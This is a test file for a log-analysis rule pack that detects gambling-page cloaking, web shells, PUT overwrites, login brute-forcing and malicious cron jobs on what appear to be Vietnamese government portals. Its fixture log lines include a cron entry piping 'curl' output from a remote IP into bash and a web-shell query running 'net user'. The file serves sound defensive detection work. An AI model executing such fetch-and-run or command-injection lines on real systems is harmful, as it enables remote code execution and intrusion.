import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { loadRules } from '../../../engine/rule/load-rules.ts';
import { hunt } from '../../../engine/run/hunt.ts';
import { listRuleFiles, readRuleFiles } from '../../../engine/run/rule-files.ts';
import { ownPack } from './hunt-options.ts';

const folder = mkdtempSync(join(tmpdir(), 'khien-pack-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** The titles of what the pack finds in some lines. */
async function find(...lines: string[]): Promise<string[]> {
  const path = join(folder, 'log');
  writeFileSync(path, `${lines.join('\n')}\n`);
  const titles: string[] = [];
  await hunt(
    { paths: [path], rules: [ownPack], workers: 1 },
    { onFinding: ({ rule }) => titles.push(rule.title) },
  );
  return titles;
}

const request = (line: string, rest = '', second = 0): string =>
  `203.0.113.9 - - [01/Aug/2026:03:0${Math.floor(second / 60)}:${String(second % 60).padStart(2, '0')} +0700] "${line} HTTP/1.1" ${rest || '200 5 "-" "Mozilla/5.0"'}`;
const calm = request('GET /tin-tuc/hoi-nghi');

describe('the own rule pack', () => {
  it('loads without a problem, and every rule is described in both languages', () => {
    const set = loadRules(readRuleFiles(listRuleFiles([ownPack])));
    expect(set.problems).toEqual([]);
    for (const { description, title } of [...set.detections, ...set.correlations]) {
      expect(title).toMatch(/[àáâãèéêìíòóôõùúăđĩũơưạ-ỹ]/);
      expect(description.split('\n').length).toBeGreaterThanOrEqual(2);
    }
  });

  it('finds gambling pages and their cloaking, and leaves other pages alone', async () => {
    expect(await find(calm, request('GET /casino-truc-tuyen'))).toEqual([
      'Trang cờ bạc, cá độ nằm trong cổng của cơ quan',
    ]);
    expect(await find(request('GET /x?p=tai-xiu-online', '200 5 "-" "Googlebot/2.1"'))).toHaveLength(2);
    expect(await find(request('GET /soi-keo', '302 5 "https://www.google.com/" "M"'))).toEqual([
      'Nội dung cờ bạc chỉ hiện với máy tìm kiếm (cloaking)',
    ]);
    expect(await find(request('GET /soi-keo', '404 5 "-" "M"'), calm)).toEqual([]);
  });

  it('finds web shells by their place and by their commands', async () => {
    expect(await find(request('GET /Portals/0/uploads/a.aspx'), calm)).toEqual([
      'Chạy mã kịch bản trong thư mục tải lên',
    ]);
    expect(await find(request('GET /uploads/a.pdf'), request('GET /uploads/a.php', '403 5 "-" "M"'))).toEqual(
      [],
    );
    expect(await find(request('GET /a.php?x=1&cmd=net+user'))).toEqual([
      'Lệnh hệ điều hành trong tham số của trang web',
    ]);
    expect(await find(request('GET /a.php?category=netherlands&c=idea'))).toEqual([]);
    expect(await find(request('GET /a.php?category=whoami'))).toEqual([]);
  });

  it('finds overwritten pages', async () => {
    expect(await find(request('PUT /index.html', '201 0 "-" "M"'))).toEqual([
      'Ghi đè trang bằng phương thức PUT hoặc MOVE',
    ]);
    expect(await find(request('PUT /index.html', '405 0 "-" "M"'), request('PUT /api/1'))).toEqual([]);
  });

  it('counts sign-ins on web mail and portals per address', async () => {
    const many = (line: string, count: number) =>
      Array.from({ length: count }, (_, i) => request(line, '', i * 2));
    expect(await find(...many('POST /owa/auth.owa', 31))).toEqual([
      'Dò mật khẩu thư điện tử công vụ qua web',
    ]);
    expect(await find(...many('POST /owa/auth.owa', 30))).toEqual([]);
    expect(await find(...many('POST /wp-login.php', 51))).toEqual([
      'Dò mật khẩu trang quản trị cổng thông tin',
    ]);
  });

  it('finds scheduled commands that fetch and run', async () => {
    const cron = (command: string) => `Aug  1 03:04:05 web CRON[12]: (root) CMD (${command})`;
    expect(await find(cron('curl -s http://203.0.113.5/x | bash'))).toEqual([
      'Tác vụ định kỳ tải mã từ mạng và chạy ngay',
    ]);
    expect(await find(cron('/usr/bin/backup | gzip'), cron('curl -s https://a.gov.vn/health'))).toEqual([]);
  });
});
